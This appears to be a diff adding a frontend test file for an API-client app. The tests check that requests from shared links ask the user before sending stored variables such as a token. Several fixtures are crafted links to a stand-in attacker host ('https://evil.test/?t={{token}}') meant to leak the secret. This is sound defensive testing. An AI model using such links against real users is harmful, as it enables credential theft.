@@ -1,0 +1,156 @@
+import { fireEvent, screen, waitFor, within } from '@testing-library/react'
+import { beforeEach, describe, expect, it, vi } from 'vitest'
+import { rowsOf } from './draft/field-rows'
+import { type RequestDraft, startingDraft } from './draft/request-draft'
+import { writeRequestLink } from './link/request-link'
+import { answering, cleanUp, field, open, panel, submit, type } from './testing/console'
+
+cleanUp()
+
+const environments = (rows: Record<string, string>) =>
+  localStorage.setItem(
+    'mockman.environments',
+    JSON.stringify({ list: [{ id: 'e', name: 'Local', rows: rowsOf(Object.entries(rows)) }], activeId: 'e' }),
+  )
+
+beforeEach(() => {
+  // jsdom has no modal dialogs, and no layout.
+  Element.prototype.checkVisibility = () => true
+  HTMLDialogElement.prototype.showModal = function (this: HTMLDialogElement) {
+    this.open = true
+  }
+  HTMLDialogElement.prototype.close = function (this: HTMLDialogElement) {
+    this.open = false
+  }
+  environments({ token: 's3cret', base: 'https://api.test' })
+})
+
+const link = (endpoint: string, change: Partial<RequestDraft> = {}) =>
+  writeRequestLink({ ...startingDraft(endpoint), ...change })
+const question = () => screen.findByRole('dialog', { name: 'Send your values?' })
+const press = (name: string) => fireEvent.click(screen.getByRole('button', { name }))
+const agree = async () => {
+  await question()
+  press('Send with these values')
+}
+const answered = (fetcher: ReturnType<typeof answering>, count: number) =>
+  waitFor(() => {
+    expect(fetcher).toHaveBeenCalledTimes(count)
+    expect(within(panel('Response')).getByRole('status').textContent).toContain('200 OK')
+  })
+const sent = (fetcher: ReturnType<typeof answering>) => fetcher.mock.calls.map(([address]) => address)
+
+describe('a request from a link', () => {
+  it('is not sent before the person has seen host and names and agreed', async () => {
+    const fetcher = answering('{}')
+    open(fetcher, { linkedRequest: link('https://evil.test/?t={{token}}') })
+    submit()
+    const dialog = await question()
+    expect(dialog.textContent).toContain('https://evil.test')
+    expect(dialog.textContent).toContain('gets the value of token')
+    expect(dialog.textContent).not.toContain('s3cret')
+    expect(document.activeElement).toBe(within(dialog).getByRole('button', { name: 'Cancel' }))
+    press('Cancel')
+    expect(screen.queryByRole('dialog')).toBeNull()
+    expect(fetcher).not.toHaveBeenCalled()
+    submit()
+    await agree()
+    await answered(fetcher, 1)
+    expect(sent(fetcher)).toEqual(['https://evil.test/?t=s3cret'])
+    submit()
+    await answered(fetcher, 2)
+  })
+
+  it('asks again after a reload, an edit and another host', async () => {
+    const fetcher = answering('{}')
+    const { unmount } = open(fetcher, { linkedRequest: link('https://evil.test/?t={{token}}') })
+    await waitFor(() => expect(localStorage.getItem('mockman.draft')).toContain('"link"'))
+    unmount()
+    open(fetcher)
+    expect(screen.getByText(/^This request came from a link\./)).toBeTruthy()
+    type('Header 1 value', 'text/html')
+    submit()
+    await agree()
+    await answered(fetcher, 1)
+    type('Endpoint', 'https://other.test/?t={{token}}')
+    submit()
+    expect((await question()).textContent).toContain('https://other.test')
+    expect(fetcher).toHaveBeenCalledOnce()
+  })
+
+  it('comes back from the history as what it was', async () => {
+    const fetcher = answering('{}')
+    open(fetcher, { linkedRequest: link('https://evil.test/') })
+    submit()
+    await waitFor(() => expect(localStorage.getItem('mockman.history')).toContain('"link"'))
+    press('Undo')
+    press('History')
+    fireEvent.click(await screen.findByRole('button', { name: /evil\.test/ }))
+    type('Endpoint', 'https://evil.test/?t={{token}}')
+    submit()
+    await question()
+    expect(fetcher).toHaveBeenCalledOnce()
+  })
+
+  it('shows what the variables in its host made of it', async () => {
+    open(answering('{}'), { linkedRequest: link('{{base}}.evil.test/{{token}}') })
+    submit()
+    const dialog = await question()
+    expect(dialog.querySelector('mark')?.textContent).toBe('https://api.test.evil.test')
+    expect(dialog.textContent).toContain('this address is what base made of it')
+  })
+
+  it('takes no session along unasked, whoever chose it', async () => {
+    const fetcher = answering('{}')
+    open(fetcher, { session: { owner: 'Ada', token: 'abc' }, linkedRequest: link('/api/users') })
+    fireEvent.click(screen.getByRole('tab', { name: 'Auth' }))
+    type('Kind of authorization', 'session')
+    submit()
+    expect((await question()).textContent).toContain('gets your session')
+    expect(fetcher).not.toHaveBeenCalled()
+    press('Send with these values')
+    await waitFor(() => expect(fetcher).toHaveBeenCalledOnce())
+    expect(fetcher.mock.calls[0]?.[1]?.headers).toMatchObject({ Authorization: 'abc' })
+  })
+
+  it('is copied as a command only after the same question, and says what is in it', async () => {
+    const writeText = vi.fn(async () => {})
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true })
+    open(answering('{}'), { linkedRequest: link('https://evil.test/?t={{token}}') })
+    press('More')
+    press('Copy as cURL')
+    await question()
+    expect(writeText).not.toHaveBeenCalled()
+    press('Copy with these values')
+    expect(await screen.findByText('cURL with the value of token copied')).toBeTruthy()
+    expect(writeText).toHaveBeenCalledWith(expect.stringContaining('s3cret'))
+  })
+})
+
+describe('a request that is saved', () => {
+  it('stays somebody else’s', async () => {
+    open(answering('{}'), { linkedRequest: link('https://evil.test/?t={{token}}') })
+    press('More')
+    press('Save…')
+    await screen.findByRole('dialog', { name: 'Save request' })
+    press('Save')
+    await waitFor(() => expect(localStorage.getItem('mockman.collections')).toContain('"origin":"link"'))
+  })
+})
+
+describe('a pasted cURL command', () => {
+  it('counts as the person’s own, and says so', async () => {
+    const fetcher = answering('{}')
+    open(fetcher)
+    fireEvent.paste(field('Endpoint'), {
+      clipboardData: { getData: () => 'curl https://api.test/?t={{token}}' },
+    })
+    expect(
+      await screen.findByText(
+        'Filled from a cURL command. It counts as typed by you: Submit fills in token.',
+      ),
+    ).toBeTruthy()
+    submit()
+    await waitFor(() => expect(sent(fetcher)).toEqual(['https://api.test/?t=s3cret']))
+  })
+})
